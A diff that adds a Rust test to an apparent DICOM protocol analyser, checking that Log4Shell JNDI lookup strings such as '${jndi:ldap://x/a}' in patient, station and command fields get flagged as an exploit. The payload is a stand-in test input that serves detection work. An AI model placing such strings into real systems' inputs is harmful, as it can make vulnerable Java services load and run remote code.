@@ -142,6 +142,33 @@ fn a_station_named_by_its_owner() {
     assert_eq!(station(b"MRN004711 "), "MRN*");
 }
 
+#[test]
+fn a_look_up_in_what_is_read_is_marked() {
+    let marks = |tag: u32, vr: &[u8; 2], value: &[u8]| stored(EXPLICIT, &element(Order::Explicit, tag, vr, value))["marks"].clone();
+    let call = b"${jndi:ldap://x/a} ";
+    for (tag, vr) in [
+        (0x0008_0070, b"LO"),
+        (0x0008_1010, b"SH"),
+        (0x0010_0010, b"PN"),
+        (0x0010_0020, b"LO"),
+    ] {
+        assert_eq!(marks(tag, vr, call), "[exploit-log4shell]", "{tag:08x}");
+    }
+    assert_eq!(marks(0x0008_0070, b"LO", b"$5 {CT} ${a}"), "[]");
+    let mut script = opened(CT, EXPLICIT);
+    script.push((
+        Dir::Orig,
+        data(
+            &[command(0x20, 3, CT, true), element(Order::Explicit, 0x0010_0010, b"PN", call)],
+            64,
+        ),
+    ));
+    script.push((Dir::Orig, data(&[command(0x20, 4, "${jndi:ldap://x}", false)], 64)));
+    let rows = played(&script);
+    let marked: Vec<_> = rows["dicom_message"].iter().map(|row| row["marks"].as_str()).collect();
+    assert_eq!(marked, ["[exploit-log4shell]"; 2]);
+}
+
 /// An image of PLANTMUELLER^PLANTHANS, number PLANT471100, and other elements, which replace those.
 fn of_patient(elements: &[(u32, &[u8; 2], &[u8])]) -> Vec<u8> {
     let patient: [(u32, &[u8; 2], &[u8]); 3] = [
